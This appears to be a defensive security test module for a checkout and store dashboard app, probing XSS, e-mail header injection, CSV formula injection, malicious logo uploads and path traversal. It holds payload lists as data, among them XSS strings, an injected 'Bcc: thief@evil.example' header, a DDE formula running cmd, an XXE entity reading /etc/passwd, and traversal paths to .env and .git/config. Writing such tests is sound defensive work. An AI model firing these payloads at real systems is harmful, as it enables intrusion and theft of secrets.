// What others read: markup in order fields and store names, e-mails, CSV files, logos, hidden files.
import Papa from 'papaparse';
import sharp from 'sharp';
import { messageOf } from '#activities/email-smtp.ts';
import { Store } from '#db/entities/store.entity.ts';
import { csvText } from '#db/orders/order-csv.ts';
import { oneLine } from '#emails/format.ts';
import { makeLogo } from '#web/dashboard/settings/server/logo.ts';
import { openClient, type Reply } from '../client.ts';
import { type Attempt, attempt, type Kind, mustThrow, tryEach } from '../kind.ts';

const XSS = [
  '<script>alert(9041)</script>',
  '"><img src=x onerror=alert(9041)>',
  "'-alert(9041)-'",
  '</script><script>alert(9041)</script>',
  '<svg/onload=alert(9041)>',
  'javascript:alert(9041)',
  '{{constructor.constructor("alert(9041)")()}}',
  '<iframe srcdoc="<script>alert(9041)</script>">',
  '\u003cscript>alert(9041)</script>',
  '<!--<script>alert(9041)',
  '<style>*{background:url(//x)}/*9041*/</style>',
  '&lt;script&gt;alert(9041)',
];

/** Markup that a browser would run, or a script without the page's nonce. */
export const runsScript = (html: string): string | null => {
  const raw = /<(script|img|svg|iframe|style)\b[^>]{0,80}(alert\(9041|onerror|onload|srcdoc|9041)/i.exec(
    html.replaceAll(/<script nonce="[^"]+"[^>]*>[\s\S]*?<\/script>/g, ''),
  );
  if (raw) return `markup: ${raw[0].slice(0, 80)}`;
  const scripts = [...html.matchAll(/<script\b([^>]*)>/g)].filter(
    ([, attributes = '']) => !/nonce="|type="application\/(json|ld\+json)"/.test(attributes),
  );
  if (scripts.length > 0) return `a script without nonce: ${scripts[0]?.[0]}`;
  // Text inside the page's own scripts must not end them.
  const inside = [...html.matchAll(/<script nonce="[^"]+"[^>]*>([\s\S]*?)<\/script>/g)].some(
    ([, code = '']) => code.includes('<script') || code.includes('<!--'),
  );
  return inside ? 'markup inside a script' : /\son\w+="[^"]*9041/.test(html) ? 'an inline handler' : null;
};

const xss: Kind = {
  name: 'xss',
  title: 'markup in order fields, store names and query strings',
  run: async (world) => {
    const { target, other, orm } = world;
    const client = openClient(target.url);
    const judge = (reply: Reply): string | null => {
      if (reply.status >= 500) return `fault ${reply.status}`;
      const type = String(reply.headers['content-type'] ?? '');
      if (!type.includes('html')) return null;
      const policy = String(reply.headers['content-security-policy'] ?? '');
      if (!policy.includes("object-src 'none'") || /script-src[^;]*unsafe/.test(policy))
        return `policy: ${policy.slice(0, 80)}`;
      return runsScript(reply.text);
    };
    const attempts: Attempt[] = [];
    for (const text of XSS) {
      const id = await world.newIntent(other, { orderId: text, orderDescription: text, userName: text });
      await orm.em.fork().nativeUpdate(Store, { id: other.storeId }, { name: text, supportContact: text });
      const pages = [
        `/checkout/${id}`,
        `/checkout/${id}/receipt`,
        `/dashboard/${other.storeId}/orders/${id}`,
        `/dashboard/${other.storeId}/orders`,
        `/dashboard/${other.storeId}`,
        `/dashboard/${other.storeId}/settings`,
      ];
      for (const path of pages)
        attempts.push(
          attempt(
            `${path.replace(id, ':id').replace(other.storeId, ':store')} with ${text}`,
            judge(await client.send({ path, cookie: other.owner.cookie })),
          ),
        );
      const query = encodeURIComponent(text);
      for (const path of [
        `/account/log-in?next=${query}`,
        `/docs/search?q=${query}`,
        `/dashboard/${other.storeId}/orders?search=${query}`,
        `/nothing/${query}`,
        `/api/auth/error?error=${query}`,
        `/?lang=${query}`,
        `/checkout/${query}`,
      ])
        attempts.push(
          attempt(
            path.replace(other.storeId, ':store').slice(0, 80),
            judge(await client.send({ path, cookie: other.owner.cookie })),
          ),
        );
    }
    await orm.em.fork().nativeUpdate(Store, { id: other.storeId }, { name: 'Elsewhere', supportContact: null });
    return attempts;
  },
};

const BREAKS = ['\r\n', '\n', '\r', '\u0085', '\u2028', '\0', '\v', '\f', '%0d%0a'];

const emails: Kind = {
  name: 'email-headers',
  title: 'header injection into e-mails',
  run: async () => {
    const base = {
      id: 'eml_1',
      from: 'shop@x.example',
      to: 'buyer@x.example',
      subject: 's',
      html: '<p>x</p>',
      text: 'x',
      headers: {},
      attachments: [],
      createdAt: new Date(),
    };
    const { createTransport } = await import('nodemailer');
    const transport = createTransport({ streamTransport: true, buffer: true });
    const headersOf = async (fields: object): Promise<string[]> => {
      const sent = await transport.sendMail(messageOf({ ...base, ...fields } as never) as never);
      const [head = ''] = String(sent.message).split(/\r?\n\r?\n/);
      return head
        .replaceAll(/\r?\n[ \t]+/g, ' ')
        .split(/\r?\n/)
        .map((line) => line.split(':')[0]?.toLowerCase() ?? '');
    };
    const inputs = BREAKS.flatMap((line) => ['subject', 'to', 'from'].map((field) => ({ line, field })));
    const composed = await tryEach(
      inputs,
      ({ line, field }) => `${field} with ${JSON.stringify(line)}`,
      async ({ line, field }) => {
        const names = await headersOf({
          [field]: `${field === 'subject' ? 'x' : 'a@x.example'}${line}Bcc: thief@evil.example${line}X-Injected: 1`,
        }).catch(() => []);
        return names.some((name) => name === 'bcc' || name === 'x-injected') ? `headers ${names.join()}` : null;
      },
    );
    const lines = await tryEach(
      BREAKS.slice(0, 8),
      (line) => `oneLine ${JSON.stringify(line)}`,
      async (line) => (/[\r\n\u0085\u2028\v\f\0]/.test(oneLine(`a${line}b`)) ? 'a line break stays' : null),
    );
    return [...composed, ...lines];
  },
};

const FORMULAS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1',
  '＋1',
  '－1',
  '＠x',
  "=cmd|'/c calc'!A0",
  '"=1',
  '=HYPERLINK("//x")',
  ' =1',
  ';=1',
  ',=1',
  '"\n=1',
  '%0a=1',
  '\u0000=1',
  '\ufeff=1',
];

const csv: Kind = {
  name: 'csv',
  title: 'formulas in CSV files',
  run: async ({ target, other, newIntent }) => {
    const startsFormula = (cell: string): boolean => /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell);
    const written = await tryEach(
      FORMULAS,
      (text) => `cell ${JSON.stringify(text)}`,
      async (text) => {
        const { data } = Papa.parse<string[]>(csvText([[text, 'a', text]]).trimEnd(), { newline: '\r\n' });
        const [cells = []] = data;
        return data.length !== 1 || cells.length !== 3
          ? 'other cells'
          : cells.some(startsFormula)
            ? `cell ${JSON.stringify(cells[0])}`
            : null;
      },
    );
    const client = openClient(target.url);
    const ids = new Map<string, string>();
    for (const text of FORMULAS.filter((text) => !text.includes('\0')))
      ids.set(await newIntent(other, { orderId: text, orderDescription: text, userName: text }), text);
    const file = await client.send({
      path: `/dashboard/${other.storeId}/orders/export/csv`,
      cookie: other.owner.cookie,
    });
    const { data } = Papa.parse<string[]>(file.text.replace(/^\ufeff/, ''), { newline: '\r\n' });
    const exported = await tryEach(
      ids,
      ([, text]) => `exported ${JSON.stringify(text)}`,
      async ([id]) => {
        const row = data.find((cells) => cells.includes(id));
        return !row
          ? `status ${file.status}: the row is missing`
          : row.some(startsFormula)
            ? `row ${JSON.stringify(row.filter(startsFormula))}`
            : null;
      },
    );
    return [...written, ...exported];
  },
};

const picture = (side: number): Promise<Buffer> =>
  sharp({ create: { width: side, height: side, channels: 3, background: '#123456' } })
    .png()
    .toBuffer();

const logos: Kind = {
  name: 'logos',
  title: 'logos: SVG, GIF, HTML, polyglots, bombs, names',
  run: async ({ target, victim, orm }) => {
    const good = await picture(64);
    const bomb = await sharp({ create: { width: 6000, height: 6000, channels: 3, background: '#000' } })
      .png({ compressionLevel: 9 })
      .toBuffer();
    const bad: [string, Buffer][] = [
      ['SVG', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
      ['SVG with a comment', Buffer.from(`<!--${'x'.repeat(3000)}--><svg onload="x"/>`)],
      ['GIF', Buffer.from('GIF89a\x01\0\x01\0')],
      ['HTML', Buffer.from('<html><script>alert(1)</script>')],
      ['empty', Buffer.alloc(0)],
      ['PNG signature alone', good.subarray(0, 8)],
      ['cut PNG', good.subarray(0, good.length / 2)],
      ['JPEG signature and HTML', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from('<script>')])],
      ['RIFF of another kind', Buffer.from('RIFF\0\0\0\0WAVE')],
      ['36 million pixels', bomb],
      ['above 1 MB', Buffer.concat([good, Buffer.alloc(1_100_000)])],
      ['8 × 8', await picture(8)],
      ['PDF', Buffer.from('%PDF-1.7')],
      ['TIFF', Buffer.from('II*\0')],
      ['XML entity', Buffer.from('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg>&a;</svg>')],
    ];
    const refused = await tryEach(
      bad,
      ([name]) => name,
      ([, bytes]) =>
        mustThrow(
          () => makeLogo(bytes).then(({ png }) => png.length),
          ({ name }) => name === 'UserError',
        ),
    );
    const poly = await makeLogo(Buffer.concat([good, Buffer.from('<script>alert(1)</script>')])).then(
      ({ png }) => (png.includes('<script') ? 'markup in the file that is served' : null),
      () => null,
    );
    const client = openClient(target.url);
    const names = await tryEach(
      ['..%2f..%2fpackage.json', '../package.json', '%00.png', 'x.svg', `${'0'.repeat(64)}.html`, '.env'],
      (name) => `/logos/${name}`,
      async (name) => {
        const { status, text } = await client.send({ path: `/logos/${name}` });
        return status >= 400 && status < 500 && !text.includes('"dependencies"') ? null : `status ${status}`;
      },
    );
    const stored = async () =>
      (
        await orm.em.fork().execute<{ logo_url: string }[]>('select logo_url from store where id = ?', [victim.storeId])
      )[0]?.logo_url;
    const before = await stored();
    const boundary = 'attack';
    const body = `--${boundary}\r\nContent-Disposition: form-data; name="logo"; filename="../../x.svg"\r\nContent-Type: image/png\r\n\r\n<svg onload="x"/>\r\n--${boundary}--\r\n`;
    await client.send({
      path: `/dashboard/${victim.storeId}/settings`,
      cookie: victim.owner.cookie,
      body,
      headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
    });
    return [
      ...refused,
      attempt('PNG with a script behind it', poly),
      ...names,
      attempt('SVG by the form', before === (await stored()) ? null : 'saved'),
    ];
  },
};

const FILES = [
  '/.env',
  '/.git/config',
  '/.git/HEAD',
  '/package.json',
  '/package-lock.json',
  '/server.js',
  '/web/server.ts',
  '/build/server/index.js',
  '/node_modules/fastify/package.json',
  '/assets/../server/index.js',
  '/assets/..%2f..%2fserver%2findex.js',
  '/assets/%2e%2e/%2e%2e/package.json',
  '/assets/....//....//package.json',
  '/assets/%5c..%5c..%5cpackage.json',
  '/assets/',
  '/assets/.vite/manifest.json',
  '/..%2f..%2fetc%2fpasswd',
  '/%2e%2e/%2e%2e/etc/passwd',
  '/etc/passwd',
  '/proc/self/environ',
  '/run/env.json',
  '/metrics',
  '/debug',
  '/admin',
  '/wp-admin',
  '/actuator/env',
  '/.well-known/../package.json',
  '/docs/..%2f..%2fpackage.json',
  '/docs/reference/../../../package.json',
  '/assets/index.js.map',
  '/docs/package.json',
  '/.DS_Store',
  '/docker-compose.yml',
];
const DEVELOPMENT = ['/dev/mailbox', '/dev/mailbox/1', '/development-wallet/wallet.js'];

const files: Kind = {
  name: 'hidden-files',
  title: 'hidden files, traversal, development paths',
  run: async ({ target }) => {
    const client = openClient(target.url);
    // In production; in development with a foreign Host, as a page after DNS rebinding has.
    const host = target.development ? { host: 'evil.example' } : {};
    const hidden = await tryEach(
      FILES,
      (path) => path,
      async (path) => {
        const { status, text } = await client.send({ path });
        return status >= 500
          ? `fault ${status}`
          : status === 200 || /root:x:|"dependencies"|\[core\]|PATH=/.test(text)
            ? `status ${status}: ${text.slice(0, 60)}`
            : null;
      },
    );
    const development = await tryEach(
      DEVELOPMENT,
      (path) => `${path} ${JSON.stringify(host)}`,
      async (path) => {
        const { status } = await client.send({ path, headers: host });
        return status >= 400 && status < 500 ? null : `status ${status}`;
      },
    );
    return [...hidden, ...development];
  },
};

export const contentKinds: readonly Kind[] = [xss, emails, csv, logos, files];
